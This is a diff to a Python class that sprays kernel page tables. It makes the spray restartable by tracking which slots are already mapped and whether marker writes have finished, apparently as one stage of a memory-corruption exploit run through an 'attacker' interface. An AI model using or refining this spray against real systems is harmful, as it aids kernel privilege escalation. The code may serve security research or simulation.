@@ -68,6 +68,12 @@ class PageTableSpray:
         self.shm = None
         self.spray_cycles = 0
         self._markers = [marker_value(i) for i in range(shm_pages)]
+        #: Resume cursor: slots already mapped.  ``execute`` is safe to
+        #: call again after a recoverable fault — completed slots are
+        #: skipped (re-mmapping a fixed address would fault) and the
+        #: idempotent marker writes are redone only if unfinished.
+        self._mapped_slots = 0
+        self._markers_written = False
 
     def slot_base(self, slot):
         """Virtual base address of a slot's 2 MiB region."""
@@ -85,10 +91,13 @@ class PageTableSpray:
         """Map every slot fully and write the markers.
 
         Each slot costs the kernel one completely-populated L1PT page.
+        Restartable: interrupted runs pick up at the first unmapped
+        slot, and ``spray_cycles`` accumulates across attempts.
         """
         start = self.attacker.rdtsc()
-        self.shm = self.attacker.create_shm(self.shm_pages)
-        for slot in range(self.slots):
+        if self.shm is None:
+            self.shm = self.attacker.create_shm(self.shm_pages)
+        for slot in range(self._mapped_slots, self.slots):
             self.attacker.mmap(
                 self.pages_per_slot,
                 shm=self.shm,
@@ -96,13 +105,16 @@ class PageTableSpray:
                 at=self.slot_base(slot),
                 populate=True,
             )
-        # Slot 0's first shm_pages pages cover every shm page once.
-        for page in range(self.shm_pages):
-            va = self.page_va(0, page)
-            value = self.expected_marker(0, page)
-            for word in range(0, PAGE_SIZE, 8):
-                self.attacker.write(va + word, value)
-        self.spray_cycles = self.attacker.rdtsc() - start
+            self._mapped_slots = slot + 1
+        if not self._markers_written:
+            # Slot 0's first shm_pages pages cover every shm page once.
+            for page in range(self.shm_pages):
+                va = self.page_va(0, page)
+                value = self.expected_marker(0, page)
+                for word in range(0, PAGE_SIZE, 8):
+                    self.attacker.write(va + word, value)
+            self._markers_written = True
+        self.spray_cycles += self.attacker.rdtsc() - start
         return self
 
     def scan(self, slot_range=None):
